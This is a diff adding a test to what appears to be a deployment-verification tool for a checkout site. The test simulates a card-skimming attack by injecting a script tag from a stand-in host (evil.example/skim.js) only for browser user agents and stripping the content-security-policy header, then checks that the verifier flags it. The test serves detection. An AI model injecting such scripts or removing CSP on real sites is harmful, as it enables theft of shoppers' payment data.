@@ -33,6 +33,43 @@ test('verify-deployment finds no difference, and then a changed byte, header and
   expect((await verify('not-an-address')).code).toBe(2);
 });
 
+// Opens every page of the checkout.
+test(
+  'verify-deployment finds what only browsers get, and in a browser what ran',
+  { tag: '@full' },
+  async () => {
+    test.slow();
+    const skimmer = 'https://evil.example/skim.js';
+    await withTampering(
+      urls.checkout,
+      (path, answer, { headers }) => {
+        if (path === '/pf/widget' && headers['user-agent']?.startsWith('Mozilla'))
+          answer.body += `<script src="${skimmer}"></script><script>window.skimmed = true</script>`;
+        // Its policy would stop both.
+        if (path === '/pf/widget' && headers['sec-fetch-mode'] === 'navigate')
+          answer.headers.delete('content-security-policy');
+      },
+      async (url) => {
+        const asBrowser = await verify(url);
+        expect(asBrowser.code).toBe(1);
+        expect(asBrowser.lines).toContain(
+          `/pf/widget: for Chrome, loads ${skimmer}, which the manifest does not name`,
+        );
+        const inBrowser = await verify(url, '--browser', process.env['CHROMIUM_PATH'] ?? '');
+        expect(inBrowser.lines).toEqual(
+          expect.arrayContaining([
+            `/pf/widget: in Chromium, requested ${skimmer}, whose origin is not in config.js`,
+            '/pf/widget: in Chromium, ran code that is in no file, which begins "window.skimmed = true"',
+            expect.stringMatching(/^Scripts that ran in Chromium: .*\/assets\/main-\w+\.js/),
+          ]),
+        );
+        // Nothing else that ran differs.
+        expect(inBrowser.lines.filter((line) => line.includes('in Chromium, '))).toHaveLength(2);
+      },
+    );
+  },
+);
+
 test('nginx serves the files in front of the provider: nothing differs, and a card payment succeeds', async ({
   context,
   page,
